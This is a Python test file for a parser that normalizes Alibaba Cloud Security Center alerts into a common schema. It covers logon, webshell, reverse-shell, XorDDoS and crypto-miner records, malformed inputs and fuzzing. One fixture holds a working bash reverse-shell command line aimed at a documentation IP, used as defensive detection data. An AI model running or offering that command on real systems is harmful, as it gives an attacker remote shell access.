"""Alibaba Cloud Security Center (SAS) alerts: golden alerts, categories, malformed records, fuzz."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings

from ._cloud import assert_bad, edit, golden, records, whole
from .conftest import check_contract, json_mutated, mutated, normalize_one

FMT = "alibaba_sas"
RECS = records(FMT)
LOGIN, WEBSHELL, REVERSE_SHELL, XORDDOS_2018, MINER_BLOCKED = RECS
SOURCE = {"product": "Alibaba Cloud Security Center", "vendor": "Alibaba Cloud", "family": "host",
          "format": FMT}
HOST = {"name": "web-prod-01", "ip": "172.16.5.23"}
DST = {"ip": "47.98.10.20", "hostname": "web-prod-01"}
UUID = "bf6b30d3-eea8-4924-9f0a-7c3d2e1f0a9b"


def test_unusual_logon_is_an_auth_alert():
    rule = {"id": "login_common_location", "name": "Login with unusual location",
            "category": "abnormal_login", "tags": ["Unusual Logon", "TA0001"], "severity": "suspicious"}
    assert golden(FMT, LOGIN) == {
        "source": SOURCE | {"family": "auth"}, "time": "2025-11-24T14:31:07Z",
        "severity": {"label": "medium", "score": 50}, "rule": rule, "rules": [rule], "action": "succeeded",
        "message": "Security Center suspicious: Login with unusual location on web-prod-01 "
                   "from 198.51.100.23",
        "src": {"ip": "198.51.100.23"}, "dst": DST, "host": HOST, "user": "root",
        "extra": {"uuid": UUID, "instance_id": "i-bp1g6zv0ce8oghu7****",
                  "alarm_unique_info": "8df914418f4211fbf756efe7a6f4c1d0",
                  "event_sub_type": "login_common_location", "data_source": "aegis_login_log",
                  "description": "The server was logged on from an unusual location.",
                  "last_time": "2025-11-24 22:31:07", "stages": '["initial_access"]',
                  "alarm_event_type": "Unusual Logon", "event_id": 270789, "event_status": 1},
    }


def test_webshell_with_documented_details():
    rule = {"id": "发现后门（Webshell）文件", "name": "发现后门（Webshell）文件", "category": "webshell",
            "tags": ["网站后门"], "severity": "serious"}
    assert golden(FMT, WEBSHELL) == {
        "source": SOURCE, "time": "2025-11-24T14:40:12Z",  # OccurrenceTime 22:40:12 China Standard Time
        "severity": {"label": "high", "score": 75}, "rule": rule, "rules": [rule], "action": "detected",
        "message": "Security Center serious: 发现后门（Webshell）文件 on web-prod-01",
        "src": {}, "dst": DST, "host": HOST,
        "file": {"path": "/var/www/html/uploads/shell.php", "hash": "5a105e8b9d40e1329780d62ea2265d8a"},
        "extra": {"uuid": UUID, "alarm_unique_info": "2a7c9e1b3d5f4a6c8e0b2d4f6a8c0e1f",
                  "event_sub_type": "WEBSHELL", "data_source": "aegis_suspicious_file_v2",
                  "description": "该文件极有可能是黑客成功入侵网站后种植的，建议您先确认文件合法性并处理。",
                  "last_time": "2025-11-24 22:40:12", "alarm_event_type": "网站后门", "event_id": 129636,
                  "event_status": 1},
    }


def test_reverse_shell_process():
    d = golden(FMT, REVERSE_SHELL)
    assert (d["rule"]["category"], d["action"], d["severity"]["label"], d["user"]) == (
        "reverse_shell", "detected", "high", "www-data")
    assert d["process"] == {"name": "bash", "cmdline": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
                            "pid": 28114, "exe": "/usr/bin/bash"}
    assert d["rule"]["tags"] == ["Suspicious Process", "TA0002"]


def test_documented_2018_item_and_automatic_blocking():
    d = golden(FMT, XORDDOS_2018)
    assert (d["time"], d["rule"]["id"], d["rule"]["category"], d["host"], d["dst"]) == (
        "2018-09-25T17:51:01Z", "XorDDoS木马", "malware", {"name": "server01", "ip": "10.0.0.10"},
        {"ip": "10.10.1.1", "hostname": "server01"})
    d = golden(FMT, MINER_BLOCKED)
    assert (d["action"], d["rule"]["category"], d["process"]["exe"], d["extra"]["event_status"]) == (
        "blocked", "mining", "/tmp/.x/kdevtmpfsi", 513)


@pytest.mark.parametrize(("kind", "name", "category"), [
    ("进程异常行为", "Linux计划任务执行异常指令", "suspicious_process"),
    ("异常网络连接", "主动连接恶意下载源", "abnormal_network"),
    ("敏感文件篡改", "篡改系统文件", "file_tampering"),
    ("Persistence", "Malicious startup item", "persistence"),
    ("Precision Defense", "Blocked malicious command", "precision_defense"),
    ("Cloud Product Threat Detection", "AccessKey leak", "other"),
])
def test_category_table(kind, name, category):
    def retype(d: dict) -> None:
        d.update(AlarmEventType=kind, AlarmEventTypeDisplay=kind, AlarmEventName=name,
                 AlarmEventNameDisplay=name, EventSubType=name, Name=f"{kind}-{name}")

    [a] = normalize_one(FMT, edit(REVERSE_SHELL, retype))
    assert (a.rule.category, a.source.family, a.action) == (category, "host", "detected")


def test_detail_lookup_by_info_type_and_bad_detail_values():
    def login_detail(d: dict) -> None:
        d["Details"] = [{"Name": "登录源IP", "Value": "not-an-ip"}, {"Name": "登录用户", "Value": "admin"}]

    [a] = normalize_one(FMT, edit(LOGIN, login_detail))
    assert (a.src.ip, a.user) == (None, "admin")  # display values are not typed: no dead letter


def test_whole_fixture_file():
    r = whole(FMT)
    assert (r.records, len(r.alerts), len(r.dead), dict(r.skipped)) == (5, 5, 0, {})
    assert [a.rule.category for a in r.alerts] == [
        "abnormal_login", "webshell", "reverse_shell", "malware", "mining"]


@pytest.mark.parametrize(("change", "reason", "field"), [
    (lambda d: d.pop("Level"), "missing_field", "Level"),
    (lambda d: d.update(Level="urgent"), "bad_field", "Level"),
    (lambda d: [d.pop(k) for k in ("AlarmEventName", "AlarmEventNameDisplay", "EventSubType", "Name")],
     "missing_field", "AlarmEventName"),
    (lambda d: [d.pop(k) for k in ("OccurrenceTimeStamp", "OccurrenceTime", "LastTimeStamp", "LastTime")],
     "missing_field", "OccurrenceTime"),
    (lambda d: d.update(OccurrenceTimeStamp="soon"), "bad_field", "OccurrenceTimeStamp"),
    (lambda d: [d.pop("OccurrenceTimeStamp"), d.update(OccurrenceTime="24/11/2025")], "bad_timestamp",
     "OccurrenceTime"),
    (lambda d: d.update(InternetIp="47.98.XX.XX"), "bad_ip", "InternetIp"),
    (lambda d: d.update(Details={"Name": "x"}), "bad_field", "Details"),
    (lambda d: d["Details"][0].update(Value=["198.51.100.23"]), "bad_field", "Details[0].Value"),
])
def test_malformed_records_are_dead_letters(change, reason, field):
    assert_bad(FMT, edit(LOGIN, change), reason, field)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(mutated(RECS) | json_mutated(RECS))
def test_fuzz_only_alerts_skips_or_bad_records(text):
    check_contract(FMT, text)
